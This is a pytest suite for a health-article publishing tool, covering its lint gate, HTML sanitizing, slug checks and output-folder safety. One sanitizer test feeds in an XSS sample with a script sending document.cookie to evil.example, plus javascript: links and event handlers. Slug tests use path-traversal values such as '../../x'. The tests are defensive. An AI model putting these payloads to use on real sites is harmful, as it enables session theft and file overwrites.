"""``healthlint publish``: only passing articles reach readers, safely, and a failed run loses nothing."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import re
import signal
import subprocess
import sys
import textwrap
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from types import MappingProxyType
from typing import Any

import html5lib
import pytest

from healthlint.config import Config, UsageError
from healthlint.engine.driver import collect_files
from healthlint.plugins import get_plugin_manager
from healthlint.publish import PublishedArticle, atomic
from healthlint.publish.pipeline import publish
from healthlint.publish.render import is_outbound, sanitize
from healthlint.publish.slugs import slug_from_file_name, slug_problem_for

from .conftest import SHARED

CONFIG = """
select = ["HL0", "TST"]

[publish]
title = "Riverbend Health Library"
"""

#: A local plugin with one blocking rule: the word "miracle" fails the gate. Front matter
#: ``grade`` becomes the readability metric, as a readability plugin would report it.
MIRACLE_PLUGIN = '''
from healthlint import Rule, Severity, hookimpl

DOC = """
## What it flags
The word miracle.
## Why it matters
Health articles must not promise miracles.
## Example
A miracle cure.
## Instead
A treatment that may help.
## Options
None.
"""


def check(article, ctx):
    grade = article.meta.get("grade")
    if grade is not None:
        ctx.metrics["readability"] = {"grade": grade}
    for block in article.blocks:
        at = block.text.lower().find("miracle")
        if at >= 0:
            yield block.hit(at, at + 7, "promises a miracle")


@hookimpl
def healthlint_register_rules(register):
    register(Rule("TST101", "miracle-claim", "Promises a miracle", Severity.ERROR, check, doc=DOC))
'''

#: The real site publisher, stopped after five pages until the test interrupts or kills it.
BLOCKING_PLUGIN = """
import os
import time
from pathlib import Path

from healthlint import hookimpl
from healthlint.publish.site import SitePublisher


class BlockingSite(SitePublisher):
    name = "blocking-site"

    def publish(self, publication):
        signal_file = Path(os.environ["BLOCK_SIGNAL"])
        advance = self.context.progress
        written = 0

        def progress(n):
            nonlocal written
            advance(n)
            written += n
            if written == 5:
                signal_file.write_text("five pages written", encoding="utf-8")
                deadline = time.monotonic() + 60
                while time.monotonic() < deadline:
                    time.sleep(0.01)
                raise RuntimeError("the test never stopped this publish")

        self.context.progress = progress
        return super().publish(publication)


@hookimpl
def healthlint_register_publishers(register):
    register(BlockingSite)
"""

STIFF_NECK = """
---
title: Easing a stiff neck
author: Priya Nair
reviewer: [Dr. Tomas Berg, Dr. Ana Silva]
date: 2024-03-05
updated: 2024-04-20
grade: 7.5
sources:
  - title: Neck pain basics
    url: https://www.nlm.nih.gov/neck
  - A leaflet from our physiotherapy team
---
# Easing a stiff neck

Gentle stretches and a warm shower can loosen a stiff neck within a few days.

See a doctor if the stiffness follows a fall or comes with a fever.
"""

MIRACLE_PILLOW = """
---
title: The pillow that fixes everything
---
This pillow is a miracle for every sore neck.
"""

SORE_FEET = """
---
title: Shoes for sore feet
date: 2023-11-12
---
Shoes with a firm heel and room for the toes ease sore feet on long shifts.
"""


def make_project(
    tmp_path: Path,
    articles: dict[str, str],
    *,
    config: str = CONFIG,
    plugins: dict[str, str] | None = None,
) -> Path:
    root = tmp_path / "project"
    (root / "articles").mkdir(parents=True)
    (root / "plugins").mkdir()
    (root / "healthlint.toml").write_text(textwrap.dedent(config), encoding="utf-8")
    for name, source in {"miracle.py": MIRACLE_PLUGIN, **(plugins or {})}.items():
        (root / "plugins" / name).write_text(source, encoding="utf-8")
    for name, text in articles.items():
        write_article(root, name, text)
    return root


def write_article(root: Path, name: str, text: str) -> Path:
    path = root / "articles" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
    return path


def snapshot(folder: Path) -> dict[str, tuple[int, bytes | str]]:
    """Every file, link and folder under ``folder``: mode and bytes (or link target)."""
    out: dict[str, tuple[int, bytes | str]] = {}
    for path in sorted(folder.rglob("*")):
        rel = path.relative_to(folder).as_posix()
        mode = path.lstat().st_mode
        if path.is_symlink():
            out[rel] = (mode, os.readlink(path))
        elif path.is_file():
            out[rel] = (mode, path.read_bytes())
        else:
            out[rel] = (mode, "<dir>")
    return out


def leftovers(root: Path) -> list[str]:
    return sorted(p.name for p in root.iterdir() if ".healthlint-" in p.name)


def html5(path: Path) -> Any:
    """Parse a page with html5lib in strict mode (any HTML5 parse error raises) and return its tree."""
    parser = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False)
    return parser.parse(path.read_text(encoding="utf-8"))


def text_of(element: Any) -> str:
    return " ".join("".join(element.itertext()).split())


def run_sub(root: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.Popen[str]:
    """Start ``python -m healthlint ARGS`` in ``root`` as a real process, as a terminal starts it."""
    full_env = {**os.environ, "HEALTHLINT_DISABLE_PLUGIN_AUTOLOAD": "1", "NO_COLOR": "1", **(env or {})}
    return subprocess.Popen(
        [sys.executable, "-m", "healthlint", *args],
        cwd=root,
        env=full_env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        # A suite started in the background (`pytest &`, nohup) ignores SIGINT, and the child would inherit
        # that: Python then installs no KeyboardInterrupt handler and ctrl-c could not be tested.
        preexec_fn=_default_sigint,
    )


def _default_sigint() -> None:
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def wait_for(path: Path, process: subprocess.Popen[str], timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while not path.exists():
        if process.poll() is not None:
            out, err = process.communicate()
            pytest.fail(f"publish ended (exit {process.returncode}) before blocking:\n{out}\n{err}")
        if time.monotonic() > deadline:
            process.kill()
            pytest.fail("publish never reached the blocking page")
        time.sleep(0.01)


# -- The gate --------------------------------------------------------------------------------


def test_publishes_only_the_articles_that_pass(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "pillow.md": MIRACLE_PILLOW, "feet.md": SORE_FEET})
    result = run_cli("publish", "--out", "site", cwd=root)
    assert result.exit_code == 0, result.stderr
    assert "published  articles/neck.md -> site/neck.html" in result.lines
    assert "published  articles/feet.md -> site/feet.html" in result.lines
    assert "withheld   articles/pillow.md: TST101 miracle-claim" in result.lines
    assert "Published 2 of 3 articles to site/; 1 withheld." in result.stdout
    site = root / "site"
    assert sorted(p.name for p in site.iterdir()) == [
        "feet.html",
        "index.html",
        "manifest.json",
        "neck.html",
        "sitemap.xml",
    ]
    everything = "".join(p.read_text(encoding="utf-8") for p in site.iterdir())
    assert "miracle" not in everything.lower() and "pillow" not in everything.lower().replace("pillow.md", "")


def test_manifest_lists_published_and_withheld_articles(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "pillow.md": MIRACLE_PILLOW})
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    manifest = json.loads((root / "site" / "manifest.json").read_text(encoding="utf-8"))
    text = (root / "articles" / "neck.md").read_text(encoding="utf-8")
    [entry] = manifest["published"]
    assert entry["source"] == "articles/neck.md"
    assert entry["slug"] == "neck"
    assert entry["path"] == "neck.html"
    assert entry["content_hash"] == "sha256:" + hashlib.sha256(text.encode()).hexdigest()
    assert entry["metrics"]["readability"] == {"grade": 7.5}
    assert entry["metrics"]["words"] > 10
    assert manifest["withheld"] == [{"source": "articles/pillow.md", "codes": ["TST101"]}]
    assert manifest["files"] == ["index.html", "neck.html", "sitemap.xml"]
    assert manifest["generator"] == "healthlint publish"


def test_hook_healthlint_register_publishers(tmp_path, run_cli):
    """A plugin's publisher gets only passing articles, as immutable objects, and its outcome is printed."""
    recorder = """
import dataclasses, json
from healthlint import hookimpl
from healthlint.publish import Publisher, PublishOutcome


class Recorder(Publisher):
    name = "recorder"
    description = "writes what it was given to a JSON file"

    def publish(self, publication):
        article = publication.articles[0]
        refused = []
        try:
            article.title = "changed"
        except dataclasses.FrozenInstanceError:
            refused.append("title")
        try:
            article.meta["title"] = "changed"
        except TypeError:
            refused.append("meta")
        data = {
            "articles": [a.source for a in publication.articles],
            "bodies": [str(a.body_html) for a in publication.articles],
            "withheld": [[w.source, list(w.codes)] for w in publication.withheld],
            "withheld_fields": sorted(f.name for f in dataclasses.fields(publication.withheld[0])),
            "refused": refused,
        }
        target = self.context.out.with_name("received.json")
        if not self.context.dry_run:
            target.write_text(json.dumps(data), encoding="utf-8")
        pages = {a.slug: "recorded:" + a.slug for a in publication.articles}
        return PublishOutcome(location="the recorder", pages=pages)


@hookimpl
def healthlint_register_publishers(register):
    register(Recorder)
"""
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "pillow.md": MIRACLE_PILLOW}, plugins={"rec.py": recorder})
    result = run_cli("publish", "--publisher", "recorder", "--out", "site", cwd=root)
    assert result.exit_code == 0, result.stderr
    assert "published  articles/neck.md -> recorded:neck" in result.lines
    assert "Published 1 of 2 articles to the recorder; 1 withheld." in result.stdout
    received = json.loads((root / "received.json").read_text(encoding="utf-8"))
    assert received["articles"] == ["articles/neck.md"]
    assert "miracle" not in json.dumps(received["bodies"])
    assert received["withheld"] == [["articles/pillow.md", ["TST101"]]]
    assert received["withheld_fields"] == ["codes", "findings", "source"]  # no text, no HTML
    assert received["refused"] == ["title", "meta"]
    assert not (root / "site").exists()  # only the chosen publisher ran

    unknown = run_cli("publish", "--publisher", "ftp", "--out", "site", cwd=root)
    assert unknown.exit_code == 2
    assert "unknown publisher 'ftp' (available: recorder, site" in unknown.stderr


def test_published_articles_are_immutable(tmp_path):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK})
    config = Config(root=root, select=["HL0"])
    pm = get_plugin_manager(config, autoload=False, local=False)
    files = collect_files([str(root / "articles")], config, pm)
    run = publish(config, pm, files, out=root / "site", dry_run=True)
    [article] = run.publication.articles
    assert isinstance(article, PublishedArticle)
    with pytest.raises(dataclasses.FrozenInstanceError):
        article.slug = "../../x"  # type: ignore[misc]
    assert isinstance(article.meta, MappingProxyType)
    assert isinstance(article.meta["reviewer"], tuple)
    with pytest.raises(TypeError):
        article.metrics["words"] = 0  # type: ignore[index]
    assert not (root / "site").exists()


def test_strict_publishes_nothing_when_an_article_is_withheld(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "pillow.md": MIRACLE_PILLOW})
    result = run_cli("publish", "--strict", "--out", "site", cwd=root)
    assert result.exit_code == 1
    assert "Nothing published: --strict and 1 withheld (1 of 2 articles pass)." in result.stdout
    # The passing article's line names the page it would have become, in the output folder.
    assert f"would publish  articles/neck.md -> {os.path.join('site', 'neck.html')}" in result.stdout.splitlines()
    assert not (root / "site").exists()
    (root / "articles" / "pillow.md").unlink()
    assert run_cli("publish", "--strict", "--out", "site", cwd=root).exit_code == 0
    assert (root / "site" / "neck.html").is_file()


#: A plugin publisher that says where each article would go only when ``PLANS`` is true.
PLANNER = """
from healthlint import hookimpl
from healthlint.publish import Publisher, PublishOutcome

PLANS = {plans}


class Planner(Publisher):
    name = "planner"
    description = "names its pages by slug"

    def page_paths(self, publication):
        if not PLANS:
            return super().page_paths(publication)
        return {{a.slug: "bucket/" + a.slug for a in publication.articles}}

    def publish(self, publication):
        pages = self.page_paths(publication)
        return PublishOutcome(location="the bucket", pages=pages)


@hookimpl
def healthlint_register_publishers(register):
    register(Planner)
"""


def test_strict_and_a_published_run_name_the_same_site_page(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "pillow.md": MIRACLE_PILLOW})
    stopped = run_cli("publish", "--strict", "--out", "site", cwd=root)
    assert stopped.exit_code == 1
    dry = run_cli("publish", "--dry-run", "--out", "site", cwd=root)
    assert dry.exit_code == 0, dry.stderr
    line = f"would publish  articles/neck.md -> {os.path.join('site', 'neck.html')}"
    assert line in stopped.lines and line in dry.lines


@pytest.mark.parametrize("plans", [True, False])
def test_strict_with_a_plugin_publisher_shows_its_pages_or_labels_the_slug(tmp_path, run_cli, plans):
    plugin = PLANNER.format(plans=plans)
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "pillow.md": MIRACLE_PILLOW}, plugins={"plan.py": plugin})
    result = run_cli("publish", "--strict", "--publisher", "planner", "--out", "site", cwd=root)
    assert result.exit_code == 1, result.stderr
    neck = [line for line in result.lines if "articles/neck.md" in line]
    if plans:
        assert neck == ["would publish  articles/neck.md -> bucket/neck"]
    else:  # no page known: the slug is labelled, never shown as if it were a page ("-> neck")
        assert neck == ["would publish  articles/neck.md (slug neck)"]
    # Published (the withheld article gone), the line names the same page the stopped run did.
    (root / "articles" / "pillow.md").unlink()
    published = run_cli("publish", "--strict", "--publisher", "planner", "--out", "site", cwd=root)
    assert published.exit_code == 0, published.stderr
    shown = "-> bucket/neck" if plans else "(slug neck)"
    assert f"published  articles/neck.md {shown}" in published.lines


def test_the_first_publisher_that_names_a_page_is_shown_stopped_or_published(tmp_path, run_cli):
    plugin = PLANNER.format(plans=False)
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "pillow.md": MIRACLE_PILLOW}, plugins={"plan.py": plugin})
    both = ("--publisher", "planner", "--publisher", "site")
    stopped = run_cli("publish", "--strict", *both, "--out", "site", cwd=root)
    assert stopped.exit_code == 1, stopped.stderr
    published = run_cli("publish", *both, "--out", "site", cwd=root)
    assert published.exit_code == 0, published.stderr
    page = os.path.join("site", "neck.html")
    assert f"would publish  articles/neck.md -> {page}" in stopped.lines
    assert f"published  articles/neck.md -> {page}" in published.lines


def test_dry_run_writes_nothing(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "pillow.md": MIRACLE_PILLOW})
    result = run_cli("publish", "--dry-run", "--out", "out/site", cwd=root)
    assert result.exit_code == 0, result.stderr
    assert "would publish  articles/neck.md -> out/site/neck.html" in result.lines
    assert "withheld   articles/pillow.md: TST101 miracle-claim" in result.lines
    assert "Dry run: would publish 1 of 2 articles to out/site/; 1 withheld. Nothing was written." in result.stdout
    assert sorted(p.name for p in root.iterdir()) == ["articles", "healthlint.toml", "plugins"]


def test_no_articles_is_a_usage_error(tmp_path, run_cli):
    root = make_project(tmp_path, {})
    result = run_cli("publish", "--out", "site", cwd=root)
    assert result.exit_code == 2
    assert "no articles found in articles; nothing to publish" in result.stderr


def test_out_defaults_to_the_configured_folder(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK}, config=CONFIG + 'out-dir = "public/health"\n')
    (root / "sub").mkdir()
    result = run_cli("publish", cwd=root / "sub")
    assert result.exit_code == 0, result.stderr
    assert (root / "public" / "health" / "neck.html").is_file()


@pytest.mark.parametrize(
    ("table", "message"),
    [
        ("[publish]\nsite-name = 'x'\n", "healthlint.toml: publish.site-name: unknown option"),
        ("[publish]\nbase-url = 'example.org'\n", "publish.base-url: 'example.org' is not an absolute http(s) URL"),
        (
            "[publish]\nallowed-domains = ['nih.gov']\n",
            "publish.allowed-domains: replaced by the one trusted-domain list: add these domains to"
            " extend-trusted-domains at the top level (before any table)",
        ),
        ("[publish]\ntemplates = 'missing'\n", "publish.templates: 'missing' is not a folder"),
        ("[publish]\ntitle = 3\n", "publish.title: must be a string, not an integer"),
    ],
)
def test_bad_publish_settings_are_usage_errors(tmp_path, run_cli, table, message):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK}, config='select = ["HL0"]\n' + table)
    result = run_cli("publish", "--out", "site", cwd=root)
    assert result.exit_code == 2
    assert message in result.stderr
    assert "Traceback" not in result.stderr
    assert not (root / "site").exists()


# -- Rendering -------------------------------------------------------------------------------


def test_article_page_shows_front_matter_and_is_valid_html5(tmp_path, run_cli):
    config = CONFIG + 'disclaimer = "General information only.\\n\\nAsk a clinician about your own care."\n'
    root = make_project(tmp_path, {"neck.md": STIFF_NECK}, config=config)
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    page = html5(root / "site" / "neck.html")
    assert text_of(page.find(".//title")) == "Easing a stiff neck · Riverbend Health Library"
    assert [text_of(h) for h in page.iter("h1")] == ["Easing a stiff neck"]  # the body's own H1 is not repeated
    assert text_of(page.find(".//p[@class='byline']")) == (
        "By Priya Nair · Medically reviewed by Dr. Tomas Berg, Dr. Ana Silva"
    )
    times = {t.get("datetime"): text_of(t) for t in page.iter("time")}
    assert times == {"2024-03-05": "5 March 2024", "2024-04-20": "20 April 2024"}
    disclaimer = page.find(".//aside[@class='disclaimer']")
    assert [text_of(p) for p in disclaimer.iter("p")] == [
        "General information only.",
        "Ask a clinician about your own care.",
    ]
    body = text_of(page.find(".//div[@class='article-body']"))
    assert body.startswith("Gentle stretches and a warm shower")
    sources = page.find(".//section[@class='sources']")
    assert [text_of(li) for li in sources.iter("li")] == ["Neck pain basics", "A leaflet from our physiotherapy team"]
    assert page.find(".//meta[@name='description']").get("content").startswith("Gentle stretches")
    assert page.tag == "html" and page.get("lang") == "en"


def test_plain_text_article_becomes_escaped_paragraphs(tmp_path, run_cli):
    text = (
        "Why knees click\n"
        "Most clicking knees are harmless, and the sound comes from gas bubbles in the joint fluid.\n"
        "\n"
        "A knee that clicks <b>and</b> swells after a twist needs a check-up & an X-ray.\n"
    )
    root = make_project(tmp_path, {})
    (root / "articles" / "knees.txt").write_text(text, encoding="utf-8")
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    page = html5(root / "site" / "knees.html")
    assert text_of(page.find(".//h1")) == "Why knees click"
    paragraphs = [text_of(p) for p in page.find(".//div[@class='article-body']").iter("p")]
    assert paragraphs == [
        "Most clicking knees are harmless, and the sound comes from gas bubbles in the joint fluid.",
        "A knee that clicks <b>and</b> swells after a twist needs a check-up & an X-ray.",
    ]
    assert page.find(".//div[@class='article-body']").find(".//b") is None


def test_script_and_javascript_links_never_reach_the_page(tmp_path, run_cli):
    hostile = """
    ---
    title: Hydration tips
    ---
    Drink water through the day.<script>document.location='https://evil.example/?'+document.cookie</script>

    <a href="javascript:alert('hi')" onclick="steal()">Tap for tips</a> and
    [a markdown link](javascript:alert(1)) and <a href="JaVaScRiPt:alert(2)">another</a>.

    <img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(3)" alt="chart">
    <div onmouseover="alert(4)" style="position:fixed;top:0">Boxed text</div>
    <iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style>
    <form action="https://evil.example/"><input name="card"></form>
    """
    root = make_project(tmp_path, {"water.md": hostile})
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    raw = (root / "site" / "water.html").read_text(encoding="utf-8")
    page = html5(root / "site" / "water.html")
    body = page.find(".//div[@class='article-body']")
    assert list(body.iter("script")) == [] and list(body.iter("iframe")) == []
    assert list(body.iter("style")) == [] and list(body.iter("form")) == [] and list(body.iter("input")) == []
    for element in body.iter():
        assert not any(name.lower().startswith("on") for name in element.attrib), element.attrib
        assert "style" not in element.attrib
        for value in element.attrib.values():
            assert not value.strip().lower().startswith(("javascript:", "data:")), value
    # Markdown refuses the javascript: link too, and shows it as plain text rather than a link.
    assert "[a markdown link](javascript:alert(1))" in text_of(body)
    raw = raw.replace("[a markdown link](javascript:alert(1))", "")
    for needle in ("javascript:", "document.cookie", "evil.example", "onerror", "onclick", "alert("):
        assert needle not in raw.lower()
    assert "Drink water through the day." in text_of(body)
    assert "Tap for tips" in text_of(body) and "Boxed text" in text_of(body)


def test_outbound_links_get_nofollow_unless_their_domain_is_trusted(tmp_path, run_cli):
    article = """
    ---
    title: Where to read more
    ---
    Read [the NIH page](https://www.nih.gov/health), [MedlinePlus](https://medlineplus.nih.gov/x),
    [a shop](https://shop.example.com/buy), [a tricky one](https://nih.gov.example.com/),
    [our own page](other.html), <a href="//cdn.example.net/x">a CDN</a> and
    [mail us](mailto:help@example.org).
    """
    config = 'trusted-domains = ["nih.gov"]\n' + CONFIG  # the one trusted list serves publish too
    root = make_project(tmp_path, {"more.md": article}, config=config)
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    body = html5(root / "site" / "more.html").find(".//div[@class='article-body']")
    rels = {text_of(a): a.get("rel") for a in body.iter("a")}
    assert rels == {
        "the NIH page": None,
        "MedlinePlus": None,
        "a shop": "nofollow noopener",
        "a tricky one": "nofollow noopener",
        "our own page": None,
        "a CDN": "nofollow noopener",
        "mail us": None,
    }


def test_author_rel_is_replaced_not_trusted():
    html = sanitize('<a href="https://spam.example/" rel="dofollow" target="_blank">x</a>', ["nih.gov"])
    assert html == '<a href="https://spam.example/" rel="nofollow noopener">x</a>'
    assert is_outbound("HTTPS://WWW.NIH.GOV./a", ["nih.gov"]) is False
    assert is_outbound("https://[::1", ["nih.gov"]) is True


def test_index_lists_title_date_summary_and_reading_grade(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "feet.md": SORE_FEET, "pillow.md": MIRACLE_PILLOW})
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    index = html5(root / "site" / "index.html")
    items = index.findall(".//ul[@class='article-list']/li")
    assert [(text_of(li.find("h2")), li.find("h2/a").get("href")) for li in items] == [
        ("Easing a stiff neck", "neck.html"),  # newest first
        ("Shoes for sore feet", "feet.html"),
    ]
    assert text_of(items[0].find("p[@class='meta']")) == "5 March 2024 · Reading grade 7.5"
    assert text_of(items[1].find("p[@class='meta']")) == "12 November 2023"  # no grade reported
    assert text_of(items[0].findall("p")[-1]).startswith("Gentle stretches and a warm shower")
    assert "pillow" not in (root / "site" / "index.html").read_text(encoding="utf-8")


def test_sitemap_is_relative_without_base_url_and_absolute_with_it(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "feet.md": SORE_FEET})
    result = run_cli("publish", "--out", "site", cwd=root)
    assert "note: sitemap.xml has relative URLs; set publish.base-url" in result.stdout
    ns = {"s": "http://www.sitemaps.org/schemas/sitemap/0.9"}
    tree = ET.parse(root / "site" / "sitemap.xml")
    assert [loc.text for loc in tree.findall(".//s:loc", ns)] == ["index.html", "neck.html", "feet.html"]
    assert [m.text for m in tree.findall(".//s:lastmod", ns)] == ["2024-04-20", "2023-11-12"]

    config = CONFIG + 'base-url = "https://health.example.org/library"\n'
    (root / "healthlint.toml").write_text(config, encoding="utf-8")
    result = run_cli("publish", "--out", "site", cwd=root)
    assert "relative URLs" not in result.stdout
    tree = ET.parse(root / "site" / "sitemap.xml")
    assert [loc.text for loc in tree.findall(".//s:loc", ns)] == [
        "https://health.example.org/library/",
        "https://health.example.org/library/neck.html",
        "https://health.example.org/library/feet.html",
    ]
    page = html5(root / "site" / "neck.html")
    assert page.find(".//link[@rel='canonical']").get("href") == "https://health.example.org/library/neck.html"


def test_site_templates_override_the_built_in_ones(tmp_path, run_cli):
    config = CONFIG + 'templates = "theme"\n'
    root = make_project(tmp_path, {"neck.md": STIFF_NECK}, config=config)
    (root / "theme").mkdir()
    (root / "theme" / "article.html").write_text(
        '{% extends "healthlint/article.html" %}\n'
        "{% block footer %}<p>Riverbend Clinic, 1 Mill Lane</p>{% endblock %}\n",
        encoding="utf-8",
    )
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    page = html5(root / "site" / "neck.html")
    assert text_of(page.find(".//footer")) == "Riverbend Clinic, 1 Mill Lane"
    assert text_of(page.find(".//h1")) == "Easing a stiff neck"
    index = html5(root / "site" / "index.html")
    assert "Checked and published with healthlint" in text_of(index.find(".//footer"))


def test_publishing_twice_gives_the_same_bytes(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "feet.md": SORE_FEET})
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    first = snapshot(root / "site")
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    assert snapshot(root / "site") == first
    assert leftovers(root) == []


# -- Slugs -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("slug", "why"),
    [
        ("../../x", "is a path"),
        ("..", "contains '.' or '..'"),
        ("/etc/passwd", "is a path"),
        ("C:evil", "absolute path or has a drive letter"),
        ("heart\\\\..\\\\x", "is a path"),
        ("Back-Pain", "has capital letters"),
        ("back pain", "has characters other than"),
        ("-dash-first", "has characters other than"),
        ("index", "is reserved for the site's own index.html"),
        ("x" * 101, "is 101 characters long"),
    ],
)
def test_unsafe_slugs_withhold_the_article(tmp_path, run_cli, slug, why):
    article = (
        f'---\ntitle: Sleep and back pain\nslug: "{slug}"\n---\nA firm mattress helps some people with back pain.\n'
    )
    root = make_project(tmp_path, {"sleep.md": article, "neck.md": STIFF_NECK})
    result = run_cli("publish", "--out", "site", cwd=root)
    assert result.exit_code == 0, result.stderr
    assert "withheld   articles/sleep.md: HL020 invalid-slug" in result.lines
    assert sorted(p.name for p in (root / "site").iterdir()) == [
        "index.html",
        "manifest.json",
        "neck.html",
        "sitemap.xml",
    ]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["project"]  # nothing written outside --out
    assert sorted(p.name for p in root.iterdir()) == [
        ".healthlint_cache",
        "articles",
        "healthlint.toml",
        "plugins",
        "site",
    ]

    check = run_cli("check", "articles/sleep.md", cwd=root)
    assert check.exit_code == 1
    assert check.lines[0].startswith("articles/sleep.md:3:1: HL020 [error] slug ")
    assert why in check.lines[0]


def test_unsafe_slug_is_withheld_even_when_hl020_is_ignored(tmp_path, run_cli):
    root = make_project(
        tmp_path,
        {"sleep.md": "---\nslug: ../../x\n---\nA firm mattress helps some people.\n"},
        config=CONFIG.replace('select = ["HL0", "TST"]', 'select = ["TST"]\nignore = ["HL020"]'),
    )
    result = run_cli("publish", "--out", "site", cwd=root)
    assert "withheld   articles/sleep.md: HL020 invalid-slug" in result.lines
    assert json.loads((root / "site" / "manifest.json").read_text())["withheld"][0]["codes"] == ["HL020"]
    assert not (tmp_path / "x.html").exists() and not (tmp_path.parent / "x.html").exists()


def test_slug_from_file_name():
    assert slug_from_file_name("articles/Back Pain.md") == "back-pain"
    assert slug_from_file_name("002_77b4180cbc462b85.txt") == "002_77b4180cbc462b85"
    assert slug_from_file_name("a/knee.v2.md") == "knee-v2"
    assert slug_problem_for(slug_from_file_name("articles/Rückenschmerz.md")) is not None  # not rewritten to ASCII
    assert slug_problem_for("back-pain_2024") is None


def test_a_file_name_that_makes_no_slug_is_withheld(tmp_path, run_cli):
    root = make_project(tmp_path, {"Rückenschmerz.md": "Ein fester Schuh hilft oft.\n", "neck.md": STIFF_NECK})
    result = run_cli("publish", "--out", "site", cwd=root)
    assert result.exit_code == 0
    assert "withheld   articles/Rückenschmerz.md: HL020 invalid-slug" in result.lines
    check = run_cli("check", "articles/Rückenschmerz.md", cwd=root)
    assert "file name 'Rückenschmerz.md' gives no usable slug" in check.stdout
    assert "set 'slug:' in front matter or rename the file" in check.stdout


def test_two_articles_with_one_slug_are_an_error_not_an_overwrite(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK})
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    before = snapshot(root / "site")
    write_article(root, "more/neck.md", SORE_FEET)
    result = run_cli("publish", "--out", "site", cwd=root)
    assert result.exit_code == 2
    assert "slug 'neck' is used by articles/more/neck.md and articles/neck.md" in result.stderr

    for n in range(3, 8):
        write_article(root, f"copies/{n}/neck.md", STIFF_NECK)
    many = run_cli("publish", "--out", "site", cwd=root)
    assert many.exit_code == 2
    assert many.stderr == (
        "healthlint: error: slug 'neck' is used by articles/copies/3/neck.md and articles/copies/4/neck.md and"
        " articles/copies/5/neck.md and 4 more articles; give each article its own 'slug:' in front matter."
        " Nothing was published\n"
    )
    assert "Nothing was published" in result.stderr
    assert snapshot(root / "site") == before
    assert leftovers(root) == []


# -- Where the site goes ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("out", "message"),
    [
        ("articles/site", "--out articles/site: is inside the articles folder articles"),
        ("articles", "--out articles: is inside the articles folder articles"),
        (".", "--out .: is the project folder or contains it"),
        ("..", "is the project folder or contains it"),
        ("healthlint.toml", "--out healthlint.toml: exists and is not a folder"),
    ],
)
def test_refuses_an_output_folder_that_would_swallow_the_project(tmp_path, run_cli, out, message):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK})
    before = snapshot(tmp_path)
    result = run_cli("publish", "--out", out, cwd=root)
    assert result.exit_code == 2
    assert message in result.stderr
    assert snapshot(tmp_path) == before


def test_refuses_an_output_folder_that_contains_the_articles(tmp_path, run_cli):
    root = make_project(tmp_path, {})
    write_article(root, "content/articles/neck.md", STIFF_NECK)
    result = run_cli("publish", "articles/content/articles", "--out", "articles/content", cwd=root)
    assert result.exit_code == 2
    assert "--out articles/content: contains articles (articles/content/articles)" in result.stderr


def test_refuses_a_folder_it_did_not_make(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK})
    (root / "docs").mkdir()
    (root / "docs" / "notes.txt").write_text("my notes", encoding="utf-8")
    before = snapshot(root / "docs")
    result = run_cli("publish", "--out", "docs", cwd=root)
    assert result.exit_code == 2
    assert "docs: folder is not empty and was not written by healthlint publish" in result.stderr
    assert snapshot(root / "docs") == before
    (root / "empty").mkdir()
    assert run_cli("publish", "--out", "empty", cwd=root).exit_code == 0  # an empty folder is fine


def test_keeps_files_it_did_not_make_and_removes_pages_no_longer_published(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "feet.md": SORE_FEET})
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    site = root / "site"
    (site / "CNAME").write_text("health.example.org\n", encoding="utf-8")
    (site / "img").mkdir()
    (site / "img" / "logo.png").write_bytes(b"\x89PNG fake")
    (site / "drafts").mkdir()
    (site / "latest.html").symlink_to("neck.html")
    inode = (site / "CNAME").stat().st_ino
    write_article(root, "feet.md", SORE_FEET.replace("ease sore feet", "are a miracle for sore feet"))

    result = run_cli("publish", "--out", "site", cwd=root)
    assert result.exit_code == 0, result.stderr
    assert "withheld   articles/feet.md: TST101 miracle-claim" in result.lines
    assert "removed    site/feet.html (no longer published)" in result.lines
    assert "kept       site/CNAME (not made by healthlint)" in result.lines
    assert not (site / "feet.html").exists()
    assert (site / "CNAME").read_text(encoding="utf-8") == "health.example.org\n"
